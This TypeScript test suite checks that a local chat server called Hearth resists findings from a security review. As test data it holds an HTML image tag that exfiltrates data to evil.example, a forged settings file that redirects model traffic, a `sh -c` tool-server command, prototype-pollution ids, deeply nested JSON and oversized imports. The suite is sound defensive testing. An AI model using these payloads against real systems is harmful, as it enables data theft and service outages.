import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import JSZip from 'jszip';
import { after, before, describe, test } from 'node:test';
import { startLlamaDouble, type DoubleRequest, type LlamaDouble } from '@/e2e/double/llama-double';
import { persona } from '@/e2e/double/persona';
import { derivedId } from '@/lib/services/library/foreign';
import { MASK } from '@/lib/tools/mcp/secrets';
import { largeChatgptExport } from '@/lib/dev/testing/chatgpt-export';
import { FORGED, forgedRunningTurn, forgedSettings } from '@/lib/dev/testing/forged-library';
import { makeTempDir } from '@/lib/dev/testing/temp-dir';
import { assertError, EventReader, httpCall, type Answer } from './client';
import { startHearth, type HearthServer } from './hearth-server';

/**
 * The second security round (issue 45), each finding of the tester reproduced against
 * `next start` on loopback without a password, as they found it, and shown closed: a library
 * file that moves the model servers or forges work to resume, stdio tool servers and the data
 * folder on a shared machine, a huge query_table result, MCP secrets, HTML in the Markdown
 * export, ids that are an object's own properties, deep JSON, and imports that stalled the server.
 */

const ENV_KEY = 'sk-env-key-1234567890';
const SECRET_LINE = 'starting with key sk-live-abcdef1234567890';
let double: LlamaDouble;
let attacker: LlamaDouble;
let hearth: HearthServer;
let dataDir: string;

before(async () => {
  [double, attacker] = await Promise.all([startLlamaDouble(), startLlamaDouble()]);
  dataDir = makeTempDir('hearth-attacks');
  fs.writeFileSync(
    path.join(dataDir, 'mcp.json'),
    JSON.stringify({
      mcpServers: {
        // A stdio server that says a secret on stderr as it starts, and never answers.
        noisy: {
          command: process.execPath,
          args: [
            '-e',
            `console.error(${JSON.stringify(SECRET_LINE)} + ' ' + process.env.NOISY_SECRET); setInterval(() => {}, 1000)`,
            '--',
            '--token',
            'tok-123456',
          ],
          env: { NOISY_SECRET: 'hunter2hunter2' },
        },
        remote: { url: 'http://127.0.0.1:9/mcp?key=k-1234567&region=eu', headers: { Authorization: 'Bearer sk-remote-123456789' } },
      },
    }),
  );
  hearth = await startHearth({ LLAMA_URL: double.url, LLAMA_API_KEY: ENV_KEY, MODEL_SLOTS: '2' }, { dataDir });
});

after(async () => {
  const log = hearth?.stderr() ?? '';
  await hearth?.stop();
  await Promise.all([double?.close(), attacker?.close()]);
  assert.doesNotMatch(log, /Something went wrong|⨯|TypeError|RangeError/, 'the server logged an unexpected error');
});

const call = (method: string, p: string, opts: Parameters<typeof httpCall>[3] = {}, server = hearth) =>
  httpCall(server.url, method, p, opts);
const importFile = (body: BodyInit, server = hearth) =>
  call('POST', '/api/import', { body, headers: { 'Content-Type': 'application/octet-stream' } }, server);

/** Runs `work` while asking /api/health every 100 ms; gives the slowest answer's time with work's result. */
async function whileHealthAsked<T>(work: () => Promise<T>): Promise<{ result: T; slowestMs: number }> {
  let slowest = 0;
  let done = false;
  const asking = (async () => {
    while (!done) {
      const started = performance.now();
      await fetch(`${hearth.url}/api/health`).then((r) => r.arrayBuffer());
      slowest = Math.max(slowest, performance.now() - started);
      await new Promise((r) => setTimeout(r, 100));
    }
  })();
  try {
    const result = await work();
    console.log(`health: slowest answer ${slowest.toFixed(0)} ms`);
    return { result, slowestMs: slowest };
  } finally {
    done = true;
    await asking;
  }
}

async function ask(threadId: string, content: string, attachmentIds: string[] = []) {
  const res = await fetch(`${hearth.url}/api/threads/${threadId}/messages`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify(attachmentIds.length ? { content, attachmentIds } : { content }),
  });
  assert.equal(res.status, 200, await res.clone().text());
  return new EventReader(res.body!).rest();
}

async function newThread(server = hearth): Promise<string> {
  const r = await call('POST', '/api/threads', { json: {} }, server);
  assert.equal(r.status, 201, r.text);
  return (r.body as { id: string }).id;
}

describe('1. a library file proposes where Hearth sends data; it never moves it', () => {
  test('settings for the model, embeddings and search servers and the instructions wait for the owner; the key from the environment never leaves for them', async () => {
    const imported = await importFile(forgedSettings(attacker.url));
    assert.equal(imported.status, 200, imported.text);
    const summary = imported.body as { added: { settings: number }; proposed: string[] };
    assert.deepEqual(summary.proposed, ['modelServers', 'embeddingsUrl', 'searxngUrl', 'defaultInstructions']);
    assert.equal(summary.added.settings, 1, 'only the harmless one (the assistant name) is applied');

    const view = (await call('GET', '/api/settings')).body as {
      settings: { modelServers: { url: string }[]; embeddingsUrl: string; searxngUrl: string; defaultInstructions: string };
      proposals: { key: string; value: unknown }[];
    };
    assert.equal(view.settings.modelServers[0].url, double.url, 'the servers are the environment’s still');
    assert.deepEqual([view.settings.embeddingsUrl, view.settings.searxngUrl, view.settings.defaultInstructions], ['', '', '']);
    assert.deepEqual(
      view.proposals.map((p) => p.key),
      ['defaultInstructions', 'embeddingsUrl', 'modelServers', 'searxngUrl'],
    );

    // Conversations go where they went: to the environment's server, with its key.
    const thread = await newThread();
    await ask(thread, 'Hello there');
    assert.equal(attacker.requests.length, 0, 'nothing reached the address in the file');
    assert.ok(double.requests.length > 0 && double.requests.every((r) => r.authorization === `Bearer ${ENV_KEY}`));

    // The owner applies the model servers (their own backup, say): the key still stays home.
    try {
      const applied = await call('POST', '/api/settings/proposals', {
        json: { apply: ['modelServers'], dismiss: ['embeddingsUrl', 'searxngUrl', 'defaultInstructions'] },
      });
      assert.equal(applied.status, 200, applied.text);
      assert.deepEqual((applied.body as { proposals: unknown[] }).proposals, []);
      const evs = await ask(thread, 'And again');
      assert.ok(attacker.requests.length > 0, `applied, the new server is used ${JSON.stringify(evs).slice(0, 500)}`);
      assert.deepEqual(
        attacker.requests.filter((r) => r.authorization?.includes(ENV_KEY)),
        [],
        'LLAMA_API_KEY goes only to the servers the environment names',
      );
    } finally {
      // Back to the environment's server for the rest of the suite.
      assert.equal((await call('PATCH', '/api/settings', { json: { modelServers: null } })).status, 200);
    }
  });
});

describe('2. an imported turn is history: no start resumes it', () => {
  test('a turn the file says is running, with a model step calling a tool and an approval, is stored interrupted and stays so across a restart', async () => {
    const own = await startHearth({ LLAMA_URL: double.url, MODEL_SLOTS: '1' });
    let again: HearthServer | undefined;
    try {
      const imported = await importFile(forgedRunningTurn('calculator', { expression: '6*7' }), own);
      assert.equal(imported.status, 200, imported.text);
      assert.deepEqual(
        (imported.body as { skipped: { what: string; count: number }[] }).skipped.map((s) => [s.what, s.count]),
        [['steps of how turns ran', 2]],
      );
      await own.stop();
      again = await startHearth({ LLAMA_URL: double.url, MODEL_SLOTS: '1' }, { dataDir: own.dataDir });
      const view = (await call('GET', `/api/threads/${FORGED.thread}`, {}, again)).body as {
        messages: { id: string; status: string; toolCalls: unknown[] }[];
        activeTurn: unknown;
      };
      assert.equal(view.activeTurn, null, 'no turn runs');
      const answer = view.messages.find((m) => m.id === FORGED.answer)!;
      assert.ok(answer, JSON.stringify(view).slice(0, 1500));
      assert.equal(answer.status, 'interrupted');
      assert.deepEqual(answer.toolCalls, [], 'the forged call never ran');
      assert.doesNotMatch(again.stderr(), /resumed [1-9]/);
    } finally {
      await own.stop();
      await again?.stop();
    }
  });
});

describe('3. on loopback without a password, Hearth is one person’s', () => {
  test('a tool server that runs a program cannot be added through the API; everything in the data folder is the owner’s alone', async () => {
    const marker = path.join(makeTempDir('hearth-pwned'), 'ran');
    const refused = await call('PUT', '/api/tool-servers/x', { json: { server: { command: 'sh', args: ['-c', `touch ${marker}`] } } });
    assertError(refused, 403, 'forbidden');
    assert.match((refused.body as { error: { message: string } }).error.message, /only in .*mcp\.json while Hearth has no password/);
    assert.equal(fs.existsSync(marker), false, 'nothing ran');
    // An HTTP server is data, not a program: it may be added.
    const http = await call('PUT', '/api/tool-servers/web', { json: { server: { url: 'http://127.0.0.1:9/mcp' } } });
    assert.equal(http.status, 200, http.text);
    assert.equal((await call('DELETE', '/api/tool-servers/web')).status, 204);

    const form = new FormData();
    form.set('file', new File(['a private note'], 'note.txt', { type: 'text/plain' }));
    assert.equal((await call('POST', '/api/attachments', { body: form })).status, 201);
    const modes: string[] = [];
    const walk = (p: string) => {
      for (const e of fs.readdirSync(p, { withFileTypes: true })) {
        const full = path.join(p, e.name);
        const mode = fs.statSync(full).mode & 0o777;
        if (e.isDirectory()) {
          if (mode !== 0o700) modes.push(`${full} ${mode.toString(8)}`);
          walk(full);
        } else if (mode !== 0o600 && e.name !== 'mcp.json') modes.push(`${full} ${mode.toString(8)}`);
      }
    };
    walk(dataDir);
    assert.deepEqual(modes, [], 'every file 0600 and every folder 0700');
    assert.equal(fs.statSync(path.join(dataDir, 'mcp.json')).mode & 0o777, 0o600, 'mcp.json, rewritten by the page, 0600');
  });
});

describe('4. a query_table result is bounded inside the reader', () => {
  test('60 rows of 6 MB each give the model at most 64 KB, said as cut, and health answers within a second meanwhile', async () => {
    const form = new FormData();
    form.set('file', new File([`n\n${Array.from({ length: 60 }, (_, i) => i + 1).join('\n')}\n`], 'n.csv', { type: 'text/csv' }));
    const up = await call('POST', '/api/attachments', { body: form });
    assert.equal(up.status, 201, up.text);
    const attachment = (up.body as { id: string }).id;
    double.setScript((r: DoubleRequest) => {
      // The model's own query, not one the program plans from the question.
      if (r.schema && 'asks_figure' in ((r.schema as { properties?: object }).properties ?? {}))
        return { content: '{"asks_figure": false}' };
      if (r.schema) return persona(r);
      if (!r.messages.some((m) => m.role === 'tool') && r.tools.some((t) => t.function.name === 'query_table'))
        return {
          toolCalls: [
            { name: 'query_table', arguments: { attachment_id: attachment, sql: 'SELECT n, hex(randomblob(3000000)) FROM data' } },
          ],
        };
      return { content: 'Done.' };
    });
    try {
      const thread = await newThread();
      const { result: events, slowestMs } = await whileHealthAsked(() =>
        ask(thread, 'List every row with a big random value', [attachment]),
      );
      const result = events.find((e) => e.type === 'tool_result' && (e as { name?: string }).name === 'query_table') as
        { ok: boolean; result: { rows: unknown[][]; total_rows: number; cut?: string } } | undefined;
      assert.ok(result?.ok, JSON.stringify(events).slice(0, 1500));
      assert.equal(result.result.total_rows, 60);
      assert.ok(Buffer.byteLength(JSON.stringify(result.result.rows)) <= 65_536);
      assert.match(result.result.cut ?? '', /cut; rows past 64 KB of results were left out/);
      assert.ok(slowestMs < 1000, `health answered in ${slowestMs.toFixed(0)} ms at worst`);
      const stored = await call('GET', `/api/threads/${thread}`);
      assert.ok(stored.text.length < 300_000, `the thread as stored is ${stored.text.length} bytes`);
    } finally {
      double.setScript(undefined);
    }
  });
});

describe('5. MCP secrets never leave, nor follow a changed address', () => {
  const servers = async () =>
    (await call('GET', '/api/tool-servers')).body as {
      servers: { name: string; config: { args?: string[]; url?: string; env?: object; headers?: object }; status: { log: string[] } }[];
    };

  test('stderr lines, args and url are masked; env and headers are write-only', async () => {
    let noisy: Awaited<ReturnType<typeof servers>>['servers'][number] | undefined;
    for (let i = 0; i < 100 && !noisy?.status.log.length; i++) {
      noisy = (await servers()).servers.find((s) => s.name === 'noisy');
      if (!noisy?.status.log.length) await new Promise((r) => setTimeout(r, 100));
    }
    assert.ok(noisy?.status.log.length, 'the server said something on stderr');
    const said = JSON.stringify(noisy);
    for (const secret of ['sk-live-abcdef1234567890', 'hunter2hunter2', 'tok-123456'])
      assert.ok(!said.includes(secret), `${secret} in ${said}`);
    assert.ok(
      noisy.status.log.some((l) => l.startsWith('starting with key ')),
      'the line itself is shown',
    );
    assert.deepEqual(noisy.config.args?.slice(-2), ['--token', MASK]);
    const remote = (await servers()).servers.find((s) => s.name === 'remote')!;
    assert.equal(remote.config.url, `http://127.0.0.1:9/mcp?key=${MASK}&region=eu`);
    assert.deepEqual(remote.config.headers, { Authorization: MASK });
  });

  test('a masked header sent back with a changed URL is refused; with the same server it keeps the stored secret', async () => {
    const remote = (await servers()).servers.find((s) => s.name === 'remote')!;
    const moved = await call('PUT', '/api/tool-servers/remote', {
      json: { server: { ...remote.config, url: `${attacker.url}/mcp`, headers: { Authorization: MASK } } },
    });
    assertError(moved, 400, 'bad_request');
    assert.match(
      (moved.body as { error: { message: string } }).error.message,
      /Header Authorization was sent masked, but the URL changed: type it again/,
    );
    const same = await call('PUT', '/api/tool-servers/remote', { json: { server: { ...remote.config, hearth: { disabled: true } } } });
    assert.equal(same.status, 200, same.text);
    const onDisk = JSON.parse(fs.readFileSync(path.join(dataDir, 'mcp.json'), 'utf8')) as {
      mcpServers: { remote: { url: string; headers: object } };
    };
    assert.equal(onDisk.mcpServers.remote.url, 'http://127.0.0.1:9/mcp?key=k-1234567&region=eu');
    assert.deepEqual(onDisk.mcpServers.remote.headers, { Authorization: 'Bearer sk-remote-123456789' });
  });
});

describe('6. the Markdown export', () => {
  test('escapes the HTML in the title, the instructions and your messages', async () => {
    const leak = '<img src=https://evil.example/p?d=secret>';
    const thread = await newThread();
    assert.equal(
      (await call('PATCH', `/api/threads/${thread}`, { json: { title: `Notes ${leak}`, systemPrompt: `Be brief ${leak}` } })).status,
      200,
    );
    await ask(thread, `Remember ${leak}`);
    const md = await call('GET', `/api/threads/${thread}/export?format=md`);
    assert.equal(md.status, 200);
    assert.ok(!/<img/i.test(md.text), md.text.slice(0, 500));
    assert.match(md.text, /^# Notes &lt;img/m);
  });
});

describe('7. ids, cycles and depth', () => {
  const conversation = (id: string, mappingJson: string, current: string) =>
    `{"title":"T ${id}","create_time":1700000000,"conversation_id":"${id}","current_node":"${current}","mapping":${mappingJson}}`;
  const node = (id: string, role: string, parent: string | null, children: string[]) =>
    JSON.stringify({
      id,
      message: { id, author: { role }, create_time: 1700000000, content: { content_type: 'text', parts: [`${role} ${id}`] } },
      parent,
      children,
    });

  test('node ids constructor, __proto__ and a parent named toString import every message', async () => {
    const mapping = `{"constructor":${node('constructor', 'user', 'toString', ['__proto__'])},"__proto__":${node('__proto__', 'assistant', 'constructor', [])}}`;
    const res = await importFile(`[${conversation('c-proto', mapping, '__proto__')}]`);
    assert.equal(res.status, 200, res.text);
    assert.equal((res.body as { added: { messages: number } }).added.messages, 2);
  });

  test('a circle of parents is a 400 naming the conversation; JSON nested 100,000 deep is a 400 wherever it comes', async () => {
    const circle = `{"a":${node('a', 'user', 'b', ['b'])},"b":${node('b', 'assistant', 'a', ['a'])}}`;
    const refused = await importFile(`[${conversation('c-circle', circle, 'b')}]`);
    assertError(refused, 400, 'bad_request');
    assert.match((refused.body as { error: { message: string } }).error.message, /"T c-circle" cannot be imported.*go round in a circle/);
    const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
    const answers: Answer[] = [
      await call('PUT', '/api/tool-servers/x', { json: `{"server":{"url":"http://127.0.0.1:9/mcp","hearth":${deep}}}` }),
      await importFile(
        [
          '{"type":"hearth-library","version":1,"exportedAt":1}',
          `{"type":"setting","key":"assistantName","value":${deep},"updatedAt":1}`,
          '{"type":"end","records":1}',
        ].join('\n'),
      ),
      await importFile(`[{"title":"x","mapping":{},"extra":${deep}}]`),
    ];
    for (const answer of answers) {
      assertError(answer, 400, 'bad_request');
      assert.match((answer.body as { error: { message: string } }).error.message, /nests deeper than 200 levels/);
    }
  });
});

describe('8. imports run off the request thread, within bounds', () => {
  test('a zip of 25,000 files is a 413 and a list of 100,001 conversations a 413; nothing is added', async () => {
    const zip = new JSZip();
    for (let i = 0; i < 25_000; i++) zip.file(`c${i}.jsonl`, '');
    const many = await importFile(Buffer.from(await zip.generateAsync({ type: 'uint8array', compression: 'STORE' })));
    assertError(many, 413, 'too_large');
    assert.match((many.body as { error: { message: string } }).error.message, /more than 20,000 files/);
    const list = `[${Array.from({ length: 100_001 }, (_, i) => `{"conversation_id":"m${i}","mapping":{}}`).join(',')}]`;
    const tooMany = await importFile(list);
    assertError(tooMany, 413, 'too_large');
    assert.match((tooMany.body as { error: { message: string } }).error.message, /more than 100,000 conversations/);
    assert.equal((await call('GET', `/api/threads/${derivedId('chatgpt', 'm0')}`)).status, 404, 'nothing was added');
  });

  test('while a large export imports, health answers within a second', { timeout: 300_000 }, async () => {
    // Made before, so that this process only sends it while health is timed.
    const body = Buffer.concat([...largeChatgptExport({ conversations: 2000, metadataBytes: 26_000 })]);
    const { result, slowestMs } = await whileHealthAsked(() => importFile(body));
    assert.equal(result.status, 200, result.text.slice(0, 300));
    assert.equal((result.body as { added: { threads: number } }).added.threads, 2000);
    assert.ok(slowestMs < 1000, `health answered in ${slowestMs.toFixed(0)} ms at worst`);
  });
});
